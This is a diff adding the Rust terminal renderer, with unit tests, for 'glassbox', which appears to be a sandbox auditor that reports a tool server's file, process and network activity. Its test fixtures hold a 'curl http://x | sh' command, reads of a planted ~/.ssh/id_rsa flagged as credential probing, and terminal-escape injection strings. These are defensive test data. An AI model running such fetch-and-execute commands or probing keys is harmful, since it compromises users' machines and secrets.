@@ -1,0 +1,887 @@
+//! The terminal renderer.
+
+use crate::escape;
+use glassbox_model::{
+    AuditReport, Bytes, CallResult, CheckResult, EventKind, Evidence, Finding, Outcome, Phase,
+    ServerExit, Verdict,
+};
+use std::collections::HashMap;
+use std::fmt::Write as _;
+use std::hash::Hash;
+
+/// Rows shown per list before "… and N more".
+pub(crate) const FILES_CAP: usize = 25;
+pub(crate) const PROCESSES_CAP: usize = 20;
+pub(crate) const CONNECTIONS_CAP: usize = 20;
+pub(crate) const TOOLS_CAP: usize = 40;
+pub(crate) const FINDINGS_CAP: usize = 10;
+pub(crate) const NOTES_CAP: usize = 10;
+/// Event ids shown per finding.
+const IDS_CAP: usize = 8;
+/// Phases shown per row.
+const PHASES_CAP: usize = 3;
+/// Characters of an argv or a path shown per row.
+const WIDE: usize = 160;
+/// Widest first column before it stops being padded.
+const COLUMN: usize = 44;
+
+const BOLD: &str = "1";
+const DIM: &str = "2";
+const RED: &str = "1;31";
+const GREEN: &str = "32";
+const YELLOW: &str = "33";
+
+// x86_64 open flags (the recorder's numeric `flags`).
+const O_ACCMODE: u64 = 0o3;
+const O_CREAT: u64 = 0o100;
+const O_TRUNC: u64 = 0o1000;
+const O_APPEND: u64 = 0o2000;
+const O_DIRECTORY: u64 = 0o200000;
+
+struct Style {
+    color: bool,
+}
+
+impl Style {
+    fn paint(&self, code: &str, s: &str) -> String {
+        if self.color {
+            format!("\x1b[{code}m{s}\x1b[0m")
+        } else {
+            s.to_string()
+        }
+    }
+
+    fn heading(&self, out: &mut String, title: &str) {
+        let _ = writeln!(out, "\n{}", self.paint(BOLD, title));
+    }
+}
+
+pub(crate) fn render(ev: &Evidence, report: &AuditReport, color: bool) -> String {
+    let st = Style { color };
+    let mut out = String::new();
+    header(&mut out, &st, ev, report);
+    files(&mut out, &st, ev);
+    processes(&mut out, &st, ev);
+    connections(&mut out, &st, ev);
+    tools(&mut out, &st, report);
+    checks(&mut out, &st, report);
+    out
+}
+
+fn header(out: &mut String, st: &Style, ev: &Evidence, report: &AuditReport) {
+    let m = &ev.manifest;
+    let command: Vec<Bytes> = m
+        .target
+        .command
+        .iter()
+        .map(|a| Bytes::from(a.as_str()))
+        .collect();
+    let _ = writeln!(
+        out,
+        "{} {}",
+        st.paint(BOLD, "glassbox audit"),
+        escape::argv(&command, WIDE)
+    );
+    let (label, code) = match report.verdict {
+        Verdict::Clean => ("CLEAN", GREEN),
+        Verdict::Flagged => ("FLAGGED", RED),
+        Verdict::Withheld => ("WITHHELD (awaiting review)", YELLOW),
+        Verdict::Inconclusive => ("INCONCLUSIVE", YELLOW),
+    };
+    let _ = writeln!(out, "  verdict   {}", st.paint(code, label));
+    if let Some(reason) = &report.inconclusive_reason {
+        let _ = writeln!(out, "  reason    {}", escape::text(reason));
+    }
+    let _ = writeln!(out, "  run       {}", escape::text(&report.run_id));
+    let _ = writeln!(out, "  evidence  {}", escape::text(&report.evidence_dir));
+    let session = &m.session;
+    let session_text = match (&session.completed, &session.failure) {
+        (true, _) => "completed".to_string(),
+        (false, Some(f)) => format!("did not complete: {}", escape::text(f)),
+        (false, None) => "did not complete".to_string(),
+    };
+    let _ = writeln!(out, "  session   {session_text}");
+    if let Some(exit) = &m.server_exit {
+        let text = match exit {
+            ServerExit::Exited { code } => format!("exited with status {code}"),
+            ServerExit::Signaled {
+                signal,
+                by_glassbox: true,
+            } => format!("stopped by glassbox (signal {signal})"),
+            ServerExit::Signaled { signal, .. } => format!("killed by signal {signal}"),
+            ServerExit::Running => "still running when recording stopped".to_string(),
+        };
+        let _ = writeln!(out, "  server    {text}");
+    }
+    let mut recorded = format!("{} events", ev.events.len());
+    if m.recorder.lost > 0 {
+        let _ = write!(recorded, ", {} notifications lost", m.recorder.lost);
+    }
+    let _ = writeln!(out, "  recorded  {recorded}");
+}
+
+/// Rows grouped by key in order of first appearance, with counts and distinct phases.
+struct Rows<K, V> {
+    index: HashMap<K, usize>,
+    rows: Vec<Row<V>>,
+}
+
+struct Row<V> {
+    count: usize,
+    phases: Vec<Phase>,
+    data: V,
+}
+
+impl<K: Hash + Eq, V> Rows<K, V> {
+    fn new() -> Self {
+        Rows {
+            index: HashMap::new(),
+            rows: Vec::new(),
+        }
+    }
+
+    fn add(&mut self, key: K, phase: &Phase, init: impl FnOnce() -> V) -> &mut V {
+        let n = match self.index.get(&key) {
+            Some(&n) => n,
+            None => {
+                self.rows.push(Row {
+                    count: 0,
+                    phases: Vec::new(),
+                    data: init(),
+                });
+                self.index.insert(key, self.rows.len() - 1);
+                self.rows.len() - 1
+            }
+        };
+        let row = &mut self.rows[n];
+        row.count += 1;
+        if !row.phases.contains(phase) {
+            row.phases.push(phase.clone());
+        }
+        &mut row.data
+    }
+}
+
+fn phases(ps: &[Phase]) -> String {
+    let mut shown: Vec<String> = ps
+        .iter()
+        .take(PHASES_CAP)
+        .map(|p| escape::text(&p.to_string()))
+        .collect();
+    if ps.len() > PHASES_CAP {
+        shown.push(format!("+{} phases", ps.len() - PHASES_CAP));
+    }
+    shown.join(", ")
+}
+
+fn times(count: usize) -> String {
+    if count > 1 {
+        format!(" ×{count}")
+    } else {
+        String::new()
+    }
+}
+
+fn pad(s: &str, width: usize) -> String {
+    let n = s.chars().count();
+    if n >= width {
+        format!("{s}  ")
+    } else {
+        format!("{s}{}", " ".repeat(width - n + 2))
+    }
+}
+
+fn more(out: &mut String, st: &Style, shown: usize, total: usize, indent: &str, see: &str) {
+    if total > shown {
+        let line = format!("… and {} more (see {see})", total - shown);
+        let _ = writeln!(out, "{indent}{}", st.paint(DIM, &line));
+    }
+}
+
+/// Lexical normalization of an absolute path: no `.`, `..`, or repeated slashes.
+fn normalize(path: &[u8]) -> Vec<Vec<u8>> {
+    let mut comps: Vec<Vec<u8>> = Vec::new();
+    for c in path.split(|&b| b == b'/') {
+        match c {
+            b"" | b"." => {}
+            b".." => {
+                comps.pop();
+            }
+            _ => comps.push(c.to_vec()),
+        }
+    }
+    comps
+}
+
+#[derive(Default)]
+struct FileUse {
+    read: bool,
+    write: bool,
+    list: bool,
+    stat: bool,
+}
+
+impl FileUse {
+    fn text(&self) -> String {
+        let mut v = Vec::new();
+        for (on, word) in [
+            (self.read, "read"),
+            (self.write, "write"),
+            (self.list, "list"),
+            (self.stat, "stat"),
+        ] {
+            if on {
+                v.push(word);
+            }
+        }
+        v.join("+")
+    }
+}
+
+fn files(out: &mut String, st: &Style, ev: &Evidence) {
+    st.heading(out, "Files touched under home");
+    let home = normalize(ev.manifest.sandbox.home.as_bytes());
+    if home.is_empty() {
+        let _ = writeln!(out, "  (home directory not recorded in the manifest)");
+        return;
+    }
+    let mut rows: Rows<Vec<Vec<u8>>, (String, FileUse)> = Rows::new();
+    for e in &ev.events {
+        let (path, use_) = match &e.kind {
+            EventKind::Open {
+                syscall,
+                path,
+                flags,
+                ..
+            } => {
+                let write = syscall == "creat"
+                    || flags & O_ACCMODE != 0
+                    || flags & (O_CREAT | O_TRUNC | O_APPEND) != 0;
+                let u = if write {
+                    "write"
+                } else if flags & O_DIRECTORY != 0 {
+                    "list"
+                } else {
+                    "read"
+                };
+                (path, u)
+            }
+            EventKind::Stat { path, .. } => (path, "stat"),
+            _ => continue,
+        };
+        let comps = normalize(path.as_slice());
+        if !comps.starts_with(&home) {
+            continue;
+        }
+        let rel = &comps[home.len()..];
+        let shown = if rel.is_empty() {
+            "~".to_string()
+        } else {
+            format!("~/{}", escape::bytes(&Bytes(rel.join(&b'/'))))
+        };
+        let (_, u) = rows.add(comps.clone(), &e.phase, || (shown, FileUse::default()));
+        match use_ {
+            "write" => u.write = true,
+            "list" => u.list = true,
+            "stat" => u.stat = true,
+            _ => u.read = true,
+        }
+    }
+    if rows.rows.is_empty() {
+        let _ = writeln!(out, "  none");
+        return;
+    }
+    let width = rows
+        .rows
+        .iter()
+        .take(FILES_CAP)
+        .map(|r| r.data.0.chars().count().min(COLUMN))
+        .max()
+        .unwrap_or(0);
+    let what_width = rows
+        .rows
+        .iter()
+        .take(FILES_CAP)
+        .map(|r| r.data.1.text().len())
+        .max()
+        .unwrap_or(0);
+    for r in rows.rows.iter().take(FILES_CAP) {
+        let (path, u) = &r.data;
+        let _ = writeln!(
+            out,
+            "  {}{}{}{}",
+            pad(&escape::truncate(path, WIDE), width),
+            pad(&u.text(), what_width),
+            phases(&r.phases),
+            times(r.count)
+        );
+    }
+    more(out, st, FILES_CAP, rows.rows.len(), "  ", "events.jsonl");
+}
+
+fn processes(out: &mut String, st: &Style, ev: &Evidence) {
+    st.heading(out, "Processes");
+    let mut rows: Rows<(i32, Vec<Bytes>), (i32, i32, String)> = Rows::new();
+    for e in &ev.events {
+        let EventKind::Exec { path, argv, .. } = &e.kind else {
+            continue;
+        };
+        rows.add((e.pid, argv.clone()), &e.phase, || {
+            let shown = if argv.is_empty() {
+                format!("{} (empty argv)", escape::bytes(path))
+            } else {
+                escape::argv(argv, WIDE)
+            };
+            (e.pid, e.ppid, shown)
+        });
+    }
+    if rows.rows.is_empty() {
+        let _ = writeln!(out, "  none");
+        return;
+    }
+    for r in rows.rows.iter().take(PROCESSES_CAP) {
+        let (pid, ppid, argv) = &r.data;
+        let ids = pad(&format!("pid {pid} (parent {ppid})"), 22);
+        let _ = writeln!(
+            out,
+            "  {ids}{argv}  {}{}",
+            st.paint(DIM, &phases(&r.phases)),
+            times(r.count)
+        );
+    }
+    more(
+        out,
+        st,
+        PROCESSES_CAP,
+        rows.rows.len(),
+        "  ",
+        "events.jsonl",
+    );
+}
+
+fn connections(out: &mut String, st: &Style, ev: &Evidence) {
+    st.heading(out, "Connection attempts");
+    let mut rows: Rows<(String, String), (String, String)> = Rows::new();
+    for e in &ev.events {
+        let (syscall, addr) = match &e.kind {
+            EventKind::Connect { syscall, addr, .. } => (escape::text(syscall), addr),
+            EventKind::Bind { addr, .. } => ("bind".to_string(), addr),
+            _ => continue,
+        };
+        let key = (escape::text(&addr.to_string()), syscall);
+        rows.add(key.clone(), &e.phase, || key);
+    }
+    if rows.rows.is_empty() {
+        let _ = writeln!(out, "  none");
+        return;
+    }
+    let width = rows
+        .rows
+        .iter()
+        .take(CONNECTIONS_CAP)
+        .map(|r| r.data.0.chars().count().min(COLUMN))
+        .max()
+        .unwrap_or(0);
+    for r in rows.rows.iter().take(CONNECTIONS_CAP) {
+        let (dest, syscall) = &r.data;
+        let _ = writeln!(
+            out,
+            "  {}{}  {}{}",
+            pad(&escape::truncate(dest, WIDE), width),
+            pad(syscall, 7),
+            phases(&r.phases),
+            times(r.count)
+        );
+    }
+    more(
+        out,
+        st,
+        CONNECTIONS_CAP,
+        rows.rows.len(),
+        "  ",
+        "events.jsonl",
+    );
+}
+
+fn tools(out: &mut String, st: &Style, report: &AuditReport) {
+    st.heading(out, &format!("Tools ({})", report.tools.len()));
+    if report.tools.is_empty() {
+        let _ = writeln!(out, "  none listed");
+        return;
+    }
+    let names: Vec<String> = report
+        .tools
+        .iter()
+        .map(|t| escape::truncate(&escape::text(&t.name), 80))
+        .collect();
+    let width = names
+        .iter()
+        .take(TOOLS_CAP)
+        .map(|n| n.chars().count().min(COLUMN))
+        .max()
+        .unwrap_or(0);
+    for (t, name) in report.tools.iter().zip(&names).take(TOOLS_CAP) {
+        let result = match t.result {
+            CallResult::Ok => st.paint(GREEN, "ok"),
+            CallResult::ToolError => st.paint(YELLOW, "tool error"),
+            CallResult::RpcError => st.paint(YELLOW, "rpc error"),
+            CallResult::Timeout => st.paint(YELLOW, "timeout"),
+            CallResult::NotCalled => st.paint(DIM, "not called"),
+        };
+        if t.called {
+            let _ = writeln!(out, "  {}called  {result}", pad(name, width));
+        } else {
+            let _ = writeln!(out, "  {}{}", pad(name, width), st.paint(DIM, "not called"));
+        }
+    }
+    more(out, st, TOOLS_CAP, report.tools.len(), "  ", "report.json");
+}
+
+fn checks(out: &mut String, st: &Style, report: &AuditReport) {
+    st.heading(out, "Checks");
+    if report.checks.is_empty() {
+        let _ = writeln!(out, "  none evaluated");
+        return;
+    }
+    for c in &report.checks {
+        check(out, st, c);
+    }
+}
+
+fn check(out: &mut String, st: &Style, c: &CheckResult) {
+    let (label, code) = match c.outcome {
+        Outcome::Pass => ("pass", GREEN),
+        Outcome::Flag => ("FLAG", RED),
+        Outcome::Unverified => ("unverified", YELLOW),
+        Outcome::NotObserved => ("not observed", YELLOW),
+        Outcome::Inconclusive => ("inconclusive", YELLOW),
+    };
+    let id = format!("{} v{}", escape::text(&c.id), c.version);
+    let severity = if c.outcome == Outcome::Flag {
+        format!(" ({})", format!("{:?}", c.severity).to_lowercase())
+    } else {
+        String::new()
+    };
+    let _ = writeln!(
+        out,
+        "  {}{}  {}{severity}",
+        pad(&id, 22),
+        st.paint(code, &format!("{label:<12}")),
+        escape::text(&c.claim)
+    );
+    if let Some(reason) = &c.reason {
+        let _ = writeln!(out, "      {}", st.paint(DIM, &escape::text(reason)));
+    }
+    for f in c.findings.iter().take(FINDINGS_CAP) {
+        finding(out, st, "✗", f);
+    }
+    more(
+        out,
+        st,
+        FINDINGS_CAP,
+        c.findings.len(),
+        "      ",
+        "report.json",
+    );
+    for n in c.notes.iter().take(NOTES_CAP) {
+        finding(out, st, "·", n);
+    }
+    more(out, st, NOTES_CAP, c.notes.len(), "      ", "report.json");
+}
+
+fn finding(out: &mut String, st: &Style, mark: &str, f: &Finding) {
+    let mut ids: Vec<String> = f
+        .evidence
+        .iter()
+        .take(IDS_CAP)
+        .map(u64::to_string)
+        .collect();
+    if f.evidence.len() > IDS_CAP {
+        ids.push(format!("+{}", f.evidence.len() - IDS_CAP));
+    }
+    let mut refs = match ids.len() {
+        0 => String::new(),
+        1 => format!("event {}", ids[0]),
+        _ => format!("events {}", ids.join(", ")),
+    };
+    if let Some(p) = &f.phase {
+        if !refs.is_empty() {
+            refs.push_str("; ");
+        }
+        refs.push_str(&escape::text(&p.to_string()));
+    }
+    let mark = if mark == "✗" {
+        st.paint(RED, mark)
+    } else {
+        mark.to_string()
+    };
+    let _ = write!(out, "    {mark} {}", escape::text(&f.summary));
+    if !refs.is_empty() {
+        let _ = write!(out, "  {}", st.paint(DIM, &format!("[{refs}]")));
+    }
+    out.push('\n');
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use glassbox_model::{
+        Event, Manifest, SandboxSettings, SessionSummary, Severity, SockAddr, Target, ToolSummary,
+    };
+
+    fn event(id: u64, pid: i32, phase: Phase, kind: EventKind) -> Event {
+        Event {
+            id,
+            t_ns: id,
+            pid,
+            ppid: 1,
+            phase,
+            kind,
+        }
+    }
+
+    fn open(path: &[u8], flags: u64) -> EventKind {
+        EventKind::Open {
+            syscall: "openat".into(),
+            path: Bytes(path.to_vec()),
+            flags,
+            flags_text: String::new(),
+            result: Some(3),
+        }
+    }
+
+    fn exec(argv: &[&str]) -> EventKind {
+        EventKind::Exec {
+            syscall: "execve".into(),
+            path: Bytes::from(format!("/usr/bin/{}", argv[0])),
+            argv: argv.iter().map(|a| Bytes::from(*a)).collect(),
+        }
+    }
+
+    fn evidence(kinds: Vec<(Phase, EventKind)>) -> Evidence {
+        Evidence {
+            manifest: Manifest {
+                run_id: "run-42".into(),
+                target: Target {
+                    command: vec!["node".into(), "server.js".into()],
+                    ..Target::default()
+                },
+                sandbox: SandboxSettings {
+                    home: "/home/user".into(),
+                    cwd: "/home/user/project".into(),
+                    ..SandboxSettings::default()
+                },
+                session: SessionSummary {
+                    completed: true,
+                    ..SessionSummary::default()
+                },
+                ..Manifest::default()
+            },
+            events: kinds
+                .into_iter()
+                .enumerate()
+                .map(|(i, (p, k))| event(i as u64 + 1, 2 + i as i32, p, k))
+                .collect(),
+            transcript: vec![],
+        }
+    }
+
+    fn report(checks: Vec<CheckResult>, tools: Vec<ToolSummary>) -> AuditReport {
+        AuditReport {
+            glassbox_version: "0.1.0".into(),
+            run_id: "run-42".into(),
+            evidence_dir: "/var/lib/glassbox/run-42".into(),
+            verdict: Verdict::Flagged,
+            inconclusive_reason: None,
+            checks,
+            tools,
+        }
+    }
+
+    fn check_result(outcome: Outcome, findings: Vec<Finding>, notes: Vec<Finding>) -> CheckResult {
+        CheckResult {
+            id: "credential-probe".into(),
+            version: 1,
+            claim: "no credential probing".into(),
+            severity: Severity::High,
+            outcome,
+            reason: None,
+            findings,
+            notes,
+        }
+    }
+
+    fn finding(summary: &str, evidence: Vec<u64>, phase: Phase) -> Finding {
+        Finding {
+            check: "credential-probe".into(),
+            version: 1,
+            summary: summary.into(),
+            evidence,
+            phase: Some(phase),
+        }
+    }
+
+    fn call(t: &str) -> Phase {
+        Phase::Call(t.into())
+    }
+
+    fn sample() -> (Evidence, AuditReport) {
+        let ev = evidence(vec![
+            (Phase::Startup, exec(&["node", "server.js"])),
+            (Phase::Startup, open(b"/home/user/project/package.json", 0)),
+            (call("get_weather"), open(b"/home/user/.ssh/id_rsa", 0)),
+            (call("get_weather"), open(b"/home/user/x/../.ssh/id_rsa", 0)),
+            (
+                Phase::Shutdown,
+                EventKind::Stat {
+                    syscall: "statx".into(),
+                    path: "/home/user/.ssh/id_rsa".into(),
+                },
+            ),
+            (Phase::Startup, open(b"/home/user/.bashrc", 0o1101)),
+            (Phase::Startup, open(b"/usr/lib/node/x.js", 0)),
+            (call("run"), exec(&["sh", "-c", "curl http://x | sh"])),
+            (
+                call("get_weather"),
+                EventKind::Connect {
+                    syscall: "connect".into(),
+                    fd: 5,
+                    addr: SockAddr::Inet {
+                        ip: "198.18.0.7".into(),
+                        port: 443,
+                    },
+                },
+            ),
+        ]);
+        let rep = report(
+            vec![
+                check_result(
+                    Outcome::Flag,
+                    vec![finding(
+                        "read + stat of ~/.ssh/id_rsa (planted secret) during call:get_weather",
+                        vec![3, 4, 5],
+                        call("get_weather"),
+                    )],
+                    vec![],
+                ),
+                CheckResult {
+                    id: "process-spawn".into(),
+                    claim: "spawns no shells or network tools".into(),
+                    outcome: Outcome::Pass,
+                    severity: Severity::Medium,
+                    ..check_result(Outcome::Pass, vec![], vec![])
+                },
+            ],
+            vec![
+                ToolSummary {
+                    name: "get_weather".into(),
+                    called: true,
+                    result: CallResult::Ok,
+                },
+                ToolSummary {
+                    name: "run".into(),
+                    called: false,
+                    result: CallResult::NotCalled,
+                },
+            ],
+        );
+        (ev, rep)
+    }
+
+    #[test]
+    fn sections_are_present_in_order() {
+        let (ev, rep) = sample();
+        let out = render(&ev, &rep, false);
+        println!("{out}");
+        let mut at = 0;
+        for s in [
+            "glassbox audit node server.js",
+            "verdict   FLAGGED",
+            "run       run-42",
+            "evidence  /var/lib/glassbox/run-42",
+            "Files touched under home",
+            "Processes",
+            "Connection attempts",
+            "Tools (2)",
+            "Checks",
+        ] {
+            let found = out[at..]
+                .find(s)
+                .unwrap_or_else(|| panic!("{s:?} missing in\n{out}"));
+            at += found + s.len();
+        }
+        assert!(!out.contains('\x1b'), "no ANSI without color");
+    }
+
+    #[test]
+    fn files_are_collapsed_per_normalized_path_with_what_and_phases() {
+        let (ev, rep) = sample();
+        let out = render(&ev, &rep, false);
+        let line = |needle: &str| {
+            out.lines()
+                .find(|l| l.trim_start().starts_with(needle))
+                .unwrap_or_else(|| panic!("{needle} missing in\n{out}"))
+                .to_string()
+        };
+        let ssh = line("~/.ssh/id_rsa");
+        assert!(ssh.contains("read+stat"), "{ssh}");
+        assert!(ssh.contains("call:get_weather, shutdown"), "{ssh}");
+        assert!(ssh.ends_with("×3"), "{ssh}");
+        assert!(line("~/.bashrc").contains("write"));
+        assert!(line("~/project/package.json").contains("read"));
+        assert!(!out.contains("/usr/lib/node"), "only files under home");
+        assert!(line("pid 9 (parent 1)").contains("sh -c 'curl http://x | sh'"));
+        let conn = line("198.18.0.7:443");
+        assert!(
+            conn.contains("connect") && conn.contains("call:get_weather"),
+            "{conn}"
+        );
+    }
+
+    #[test]
+    fn checks_show_outcome_claim_findings_and_evidence() {
+        let (ev, rep) = sample();
+        let out = render(&ev, &rep, false);
+        assert!(out.contains("credential-probe v1"), "{out}");
+        assert!(
+            out.contains("FLAG") && out.contains("no credential probing (high)"),
+            "{out}"
+        );
+        assert!(out.contains("✗ read + stat of ~/.ssh/id_rsa"), "{out}");
+        assert!(out.contains("[events 3, 4, 5; call:get_weather]"), "{out}");
+        assert!(out.contains("process-spawn v1"), "{out}");
+        assert!(out.contains("pass") && out.contains("spawns no shells or network tools"));
+    }
+
+    #[test]
+    fn empty_sections_say_none() {
+        let ev = evidence(vec![]);
+        let rep = AuditReport {
+            verdict: Verdict::Inconclusive,
+            inconclusive_reason: Some("the session did not complete: timeout".into()),
+            ..report(vec![], vec![])
+        };
+        let out = render(&ev, &rep, false);
+        assert!(out.contains("Connection attempts\n  none\n"), "{out}");
+        assert!(out.contains("Files touched under home\n  none\n"), "{out}");
+        assert!(out.contains("Processes\n  none\n"), "{out}");
+        assert!(out.contains("Tools (0)\n  none listed\n"), "{out}");
+        assert!(out.contains("verdict   INCONCLUSIVE"), "{out}");
+        assert!(
+            out.contains("reason    the session did not complete: timeout"),
+            "{out}"
+        );
+    }
+
+    #[test]
+    fn hostile_strings_are_escaped() {
+        let evil = "x\x1b]0;owned\x07\x1b[2J\nFAKE LINE\r\u{202e}txt";
+        let mut ev = evidence(vec![
+            (call(evil), open(format!("/home/user/{evil}").as_bytes(), 0)),
+            (Phase::Startup, exec(&["sh", "-c", evil])),
+            (
+                Phase::Startup,
+                EventKind::Connect {
+                    syscall: "connect".into(),
+                    fd: 3,
+                    addr: SockAddr::Unix {
+                        path: Bytes::from(evil),
+                        is_abstract: false,
+                    },
+                },
+            ),
+            (Phase::Startup, open(b"/home/user/\xff\x9b31m", 0)),
+        ]);
+        ev.manifest.session.completed = false;
+        ev.manifest.session.failure = Some(evil.into());
+        let mut rep = report(
+            vec![check_result(
+                Outcome::Flag,
+                vec![finding(evil, vec![1], call(evil))],
+                vec![finding(evil, vec![2], Phase::Startup)],
+            )],
+            vec![ToolSummary {
+                name: evil.into(),
+                called: true,
+                result: CallResult::Ok,
+            }],
+        );
+        rep.inconclusive_reason = Some(evil.into());
+        for color in [false, true] {
+            let out = render(&ev, &rep, color);
+            for bad in ['\x07', '\r', '\u{202e}', '\u{9b}'] {
+                assert!(!out.contains(bad), "{bad:?} in\n{out}");
+            }
+            assert!(!out.contains("\nFAKE LINE"), "{out}");
+            assert!(!out.contains("\x1b]"), "{out}");
+            assert!(!out.contains("\x1b[2J"), "{out}");
+            // The only escape sequences are our own colors.
+            let stripped = out
+                .replace("\x1b[0m", "")
+                .replace("\x1b[1m", "")
+                .replace("\x1b[2m", "")
+                .replace("\x1b[32m", "")
+                .replace("\x1b[33m", "")
+                .replace("\x1b[1;31m", "");
+            assert!(!stripped.contains('\x1b'), "{stripped}");
+            assert!(out.contains("x\\u{1b}]0;owned\\u{7}\\u{1b}[2J\\nFAKE LINE\\r\\u{202e}txt"));
+            assert_eq!(out.contains("\x1b[1;31mFLAG"), color);
+        }
+    }
+
+    #[test]
+    fn long_lists_are_capped() {
+        let mut kinds = Vec::new();
+        for i in 0..(FILES_CAP + 7) {
+            kinds.push((
+                Phase::Startup,
+                open(format!("/home/user/f{i}").as_bytes(), 0),
+            ));
+        }
+        for i in 0..(PROCESSES_CAP + 3) {
+            kinds.push((Phase::Startup, exec(&["git", &format!("{i}")])));
+        }
+        for i in 0..(CONNECTIONS_CAP + 1) {
+            kinds.push((
+                Phase::Startup,
+                EventKind::Connect {
+                    syscall: "sendto".into(),
+                    fd: 3,
+                    addr: SockAddr::Inet {
+                        ip: format!("10.0.0.{i}"),
+                        port: 53,
+                    },
+                },
+            ));
+        }
+        let ev = evidence(kinds);
+        let tools = (0..TOOLS_CAP + 2)
+            .map(|i| ToolSummary {
+                name: format!("t{i}"),
+                called: true,
+                result: CallResult::Ok,
+            })
+            .collect();
+        let findings = (0..FINDINGS_CAP + 4)
+            .map(|i| finding(&format!("f{i}"), vec![1], Phase::Startup))
+            .collect();
+        let notes = (0..NOTES_CAP + 5)
+            .map(|i| finding(&format!("n{i}"), (1..=20).collect(), Phase::Startup))
+            .collect();
+        let rep = report(vec![check_result(Outcome::Flag, findings, notes)], tools);
+        let out = render(&ev, &rep, false);
+        assert!(out.contains("… and 7 more (see events.jsonl)"), "{out}");
+        assert!(out.contains("… and 3 more (see events.jsonl)"), "{out}");
+        assert!(out.contains("… and 1 more (see events.jsonl)"), "{out}");
+        assert!(out.contains("… and 2 more (see report.json)"), "{out}");
+        assert!(out.contains("… and 4 more (see report.json)"), "{out}");
+        assert!(out.contains("… and 5 more (see report.json)"), "{out}");
+        assert!(
+            out.contains("[events 1, 2, 3, 4, 5, 6, 7, 8, +12; startup]"),
+            "{out}"
+        );
+        assert!(!out.contains(&format!("~/f{FILES_CAP}")), "{out}");
+        assert!(out.contains(&format!("~/f{}", FILES_CAP - 1)), "{out}");
+        assert!(out.lines().count() < 200);
+    }
+}
